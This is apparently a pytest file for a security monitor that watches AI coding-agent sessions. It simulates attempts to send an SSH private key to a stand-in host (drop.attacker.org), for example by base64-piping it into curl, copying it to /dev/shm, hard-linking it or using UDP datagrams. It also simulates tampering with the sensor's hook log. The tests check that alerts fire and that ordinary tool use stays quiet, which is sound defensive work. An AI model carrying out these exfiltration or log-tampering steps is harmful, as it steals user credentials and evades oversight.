"""The pack's provenance rules on the stories they are for, and on those they must leave alone."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from workbench.scorer import Scorer

KEY = "/home/u/.ssh/id_ed25519"


class Story:
    """Events of one agent session, scored as they are told."""

    def __init__(self, scorer: Scorer) -> None:
        self.scorer = scorer
        self.now = 1_700_000_000_000_000_000
        self.alerts: list[Any] = []
        names = {"gen_ai.conversation.id": "s", "gen_ai.agent.name": "codex"}
        self.tell("agent/session_start", "agent", **names)
        self.spawn("agent", "shell", "bash", "-c", "work")

    def tell(self, kind: str, entity: str, **fields: Any) -> None:
        self.now += 1_000_000
        category, _, action = kind.partition("/")
        event = {"@timestamp": self.now, "event.category": category, "event.action": action}
        event |= {
            "event.id": str(self.now),
            "process.entity_id": entity,
            "event.outcome": "success",
            **fields,
        }
        self.alerts += [finding for finding in self.scorer.score(event) if finding.response != "audit"]

    def spawn(self, parent: str, child: str, *args: str) -> None:
        self.tell("process/fork", parent, **{"process.target.entity_id": child, "process.target.pid": 9})
        line = {"process.args": list(args), "process.command_line": " ".join(args)}
        self.tell("process/exec", child, **line, **{"process.executable": f"/usr/bin/{args[0]}"})

    def file(self, action: str, entity: str, path: str, inode: int, **fields: Any) -> None:
        names = {"file.path": path, "file.inode": str(inode), "file.device": "8:1"}
        self.tell(f"file/{action}", entity, **names, **fields)

    def connect(self, entity: str, domain: str = "drop.attacker.org") -> None:
        ends = {"destination.domain": domain, "destination.ip": "8.8.4.4", "destination.port": 443}
        self.tell("network/connect", entity, **ends)

    def send(self, entity: str, domain: str) -> None:
        ends = {"destination.domain": domain, "destination.ip": "8.8.4.4", "destination.port": 443}
        self.tell("network/send", entity, **ends, **{"network.bytes": 900})

    @property
    def titles(self) -> set[str]:
        return {finding.rule_title for finding in self.alerts}


@pytest.fixture
def story(scorer: Scorer) -> Story:
    return Story(scorer)


def pipeline(story: Story) -> None:
    story.spawn("shell", "base64", "base64")
    story.spawn("shell", "curl", "curl", "-d", "@-", "https://drop.attacker.org")
    story.file("read", "base64", KEY, 1)
    story.file("write", "base64", "", 2, **{"file.type": "pipe"})
    story.file("read", "curl", "", 2, **{"file.type": "pipe"})
    story.connect("curl")


def copy_sent_later(story: Story) -> None:
    story.spawn("shell", "cp", "cp", KEY, "/dev/shm/x")
    story.file("read", "cp", KEY, 1)
    story.file("write", "cp", "/dev/shm/x", 2)
    story.now += 600_000_000_000
    story.spawn("agent", "later", "curl", "-T", "/dev/shm/x")
    story.file("open", "later", "/dev/shm/x", 2, **{"file.flags": ["read"]})
    story.connect("later")


def one_liner(story: Story) -> None:
    story.spawn("shell", "py", "python3", "-c", "...")
    story.file("open", "py", KEY, 1, **{"file.flags": ["read"]})
    story.connect("py")


def shell_variable(story: Story) -> None:
    story.spawn("shell", "cat", "cat", KEY)
    story.file("read", "cat", KEY, 1)
    story.file("write", "cat", "", 2, **{"file.type": "pipe"})
    story.file("read", "shell", "", 2, **{"file.type": "pipe"})
    story.spawn("shell", "curl", "curl", "-d", "...")
    story.connect("curl")


def renamed_and_linked(story: Story) -> None:
    story.spawn("shell", "cp", "/tmp/a.out")
    story.file("link", "cp", "/tmp/innocent", 1, **{"file.original.path": KEY})
    story.file("open", "cp", KEY, 1, **{"file.flags": ["read"]})
    story.spawn("shell", "sender", "/tmp/b.out")
    story.file("read", "sender", "/tmp/innocent", 1)
    story.connect("sender")


@pytest.mark.parametrize("attack", [pipeline, copy_sent_later, one_liner, shell_variable, renamed_and_linked])
def test_a_key_on_its_way_out_is_caught_at_the_connection(
    story: Story, attack: Callable[[Story], None]
) -> None:
    attack(story)
    (finding,) = (one for one in story.alerts if "holding secret data connects" in one.rule_title)
    assert finding.session == "s"
    assert KEY in finding.provenance_path[0]
    assert finding.timestamp == story.now


@pytest.mark.parametrize("domain", ["upload.pypi.org", "drop.attacker.org"])
def test_a_key_that_is_read_once_the_server_has_answered_is_caught_when_it_is_sent(
    story: Story, domain: str
) -> None:
    story.spawn("shell", "cp", "cp", KEY, "/tmp/x")
    story.file("read", "cp", KEY, 1)
    story.file("write", "cp", "/tmp/x", 2)
    story.spawn("shell", "curl", "curl", "-F", "content=@/tmp/x")
    story.connect("curl", domain)
    story.send("curl", domain)
    assert story.titles == set()
    story.file("read", "curl", "/tmp/x", 2)
    story.send("curl", domain)
    assert story.titles == {"Secret data is sent on a connection that was open before it was read"}


def test_io_uring_is_told_once_something_goes_out(story: Story) -> None:
    story.spawn("shell", "uring", "/tmp/a.out")
    story.tell("file/mmap_write", "uring", **{"file.path": "/[io_uring]"})
    assert story.titles == set()
    story.connect("shell")
    assert story.titles == {"A tool works through io_uring, then something connects to an unknown host"}


def ssh_beside_pip(story: Story) -> None:
    story.spawn("shell", "ssh", "ssh", "git@github.com")
    story.file("open", "ssh", KEY, 1, **{"file.flags": ["read"]})
    story.file("read", "ssh", KEY, 1)
    story.connect("ssh", "own-server.org")
    story.spawn("shell", "pip", "pip", "download", "x")
    story.connect("pip", "pypi.org")
    story.connect("pip", "mirror.somewhere.org")


def installed_by_a_manager_that_reads_its_login(story: Story) -> None:
    story.spawn("shell", "npm", "node", "/usr/bin/npm", "install")
    story.file("read", "npm", "/home/u/.npmrc", 5)
    story.file("write", "npm", "/repo/node_modules/x/index.js", 6)
    story.spawn("shell", "app", "node", "server.js")
    story.file("read", "app", "/repo/node_modules/x/index.js", 6)
    story.connect("app")


def secret_shown_to_the_agent_then_a_download(story: Story) -> None:
    story.spawn("shell", "cat", "cat", "/repo/.env")
    story.file("read", "cat", "/repo/.env", 7)
    story.file("write", "cat", "", 2, **{"file.type": "pipe"})
    story.file("read", "agent", "", 2, **{"file.type": "pipe"})
    story.spawn("agent", "pip", "pip", "download", "x")
    story.connect("pip", "mirror.somewhere.org")


def client_that_looks_up_its_login_once_it_is_asked(story: Story) -> None:
    story.spawn("shell", "curl", "curl", "https://api.somewhere.org")
    story.connect("curl", "api.somewhere.org")
    story.file("read", "curl", "/home/u/.netrc", 8)
    story.send("curl", "api.somewhere.org")


@pytest.mark.parametrize(
    "work",
    [
        ssh_beside_pip,
        client_that_looks_up_its_login_once_it_is_asked,
        installed_by_a_manager_that_reads_its_login,
        secret_shown_to_the_agent_then_a_download,
    ],
)
def test_ordinary_work_is_left_alone(story: Story, work: Callable[[Story], None]) -> None:
    work(story)
    assert story.titles == set()


@pytest.mark.parametrize(
    ("port", "holds", "told"),
    [(9999, True, True), (53, True, False), (9999, False, False)],
    ids=["secret", "name asked for", "no secret"],
)
def test_a_secret_in_a_datagram_needs_no_connection(story: Story, port: int, holds: bool, told: bool) -> None:
    story.spawn("shell", "python", "python3", "-c", "…")
    story.file("read", "python", KEY if holds else "/srv/app/notes.txt", 1)
    ends = {"destination.ip": "8.8.4.4", "destination.port": port, "network.transport": "udp"}
    story.tell("network/send", "python", **ends, **{"network.bytes": 35})
    assert ("Secret data is sent in a datagram to an unknown host" in story.titles) == told


def test_a_drop_site_counts_even_for_an_unlikely_way(story: Story) -> None:
    secret_shown_to_the_agent_then_a_download(story)
    story.connect("pip", "webhook.site")
    assert any(finding.response == "block" for finding in story.alerts)


LOG = "/home/u/.local/state/agent-detection-workbench/hooks.jsonl"


@pytest.mark.parametrize(
    ("action", "flags", "told"),
    [
        ("create", [], False),
        ("write", [], False),
        ("open", ["write", "append"], False),
        ("open", ["write", "truncate"], True),
        ("delete", [], True),
        ("rename", [], True),
    ],
)
def test_hooks_append_to_their_log_and_nobody_shortens_it(
    story: Story, action: str, flags: list[str], told: bool
) -> None:
    story.spawn("shell", "hook", "python3", "hook.py")
    story.file(action, "hook", LOG, 3, **{"file.flags": flags} if flags else {})
    assert ("Something in a session tampers with the sensor" in story.titles) == told
